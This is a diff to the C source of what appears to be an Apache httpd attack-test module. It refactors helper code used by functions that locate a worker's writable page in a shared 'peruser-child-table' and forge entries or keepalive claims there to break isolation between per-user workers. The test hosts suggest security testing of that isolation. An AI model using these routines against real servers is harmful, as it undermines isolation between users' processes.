@@ -563,6 +563,21 @@ static void attack_table(request_rec *r)
 /* ring                                                                 */
 /* ------------------------------------------------------------------ */
 
+/* This worker's detail page: the highest writable page of its child-table mappings (0: none). */
+static uintptr_t own_detail_page(void)
+{
+    mapping maps[64];
+    int count = shared_state_mappings(maps, 64), i;
+    uintptr_t detail = 0;
+    for (i = 0; i < count; i++) {
+        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
+            && maps[i].end - 4096 > detail) {
+            detail = maps[i].end - 4096;
+        }
+    }
+    return detail;
+}
+
 /* ChildTable.swift: a worker's detail page holds its ring of given-back lend numbers at 288,
  * 256 words, the kind in the top two bits (0 answered, 2 ended). */
 #define RING_OFFSET 288
@@ -570,17 +585,10 @@ static void attack_table(request_rec *r)
 
 static void attack_ring(request_rec *r, int seconds)
 {
-    mapping maps[64];
-    int count = shared_state_mappings(maps, 64), i;
-    uintptr_t detail = 0;
+    int i;
+    uintptr_t detail = own_detail_page();
     long long until;
     uint64_t number = 1, written = 0;
-    for (i = 0; i < count; i++) {
-        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
-            && maps[i].end - 4096 > detail) {
-            detail = maps[i].end - 4096;  /* the last writable page: this worker's detail page */
-        }
-    }
     if (!detail) {
         step(r, "find this worker's detail page (a writable page of the child table)", 0, ENOENT, NULL);
         return;
@@ -608,16 +616,9 @@ static void attack_ring(request_rec *r, int seconds)
  * answers then reads as never kept alive before. Double-forked, so nobody has to reap it. */
 static void attack_ringzero(request_rec *r, int seconds)
 {
-    mapping maps[64];
-    int count = shared_state_mappings(maps, 64), i, status;
-    uintptr_t detail = 0;
+    int i, status;
+    uintptr_t detail = own_detail_page();
     pid_t child;
-    for (i = 0; i < count; i++) {
-        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
-            && maps[i].end - 4096 > detail) {
-            detail = maps[i].end - 4096;  /* the last writable page: this worker's detail page */
-        }
-    }
     if (!detail) {
         step(r, "find this worker's detail page (a writable page of the child table)", 0, ENOENT, NULL);
         return;
@@ -1056,21 +1057,14 @@ static void attack_empty(request_rec *r, int client_fd)
  * and the connection is marked aborted, so httpd writes nothing and does not shut it down. */
 static int attack_keepalives(request_rec *r, int client_fd, uint32_t lie)
 {
-    mapping maps[64];
-    int count = shared_state_mappings(maps, 64), i, sent = 0, first_err = 0;
-    uintptr_t detail = 0;
+    int i, sent = 0, first_err = 0;
+    uintptr_t detail = own_detail_page();
     static unsigned char msg[MSG_HEADER + 256];
     const char *b_request = "GET /cgi-bin/id.cgi?keepalives-lie HTTP/1.1\r\nHost: b.test\r\n\r\n";
     uint64_t ticket, high, low;
     size_t len;
     int fds[256], socket_count = list_sockets(r, client_fd, fds, 256);
 
-    for (i = 0; i < count; i++) {
-        if (strchr(maps[i].perms, 'w') && strstr(maps[i].name, "peruser-child-table")
-            && maps[i].end - 4096 > detail) {
-            detail = maps[i].end - 4096;  /* the last writable page: this worker's detail page */
-        }
-    }
     if (!detail || client_fd < 0) {
         ap_log_rerror(APLOG_MARK, APLOG_ERR, 0, r, "peruser-attack keepalives: no detail page or client");
         return HTTP_INTERNAL_SERVER_ERROR;
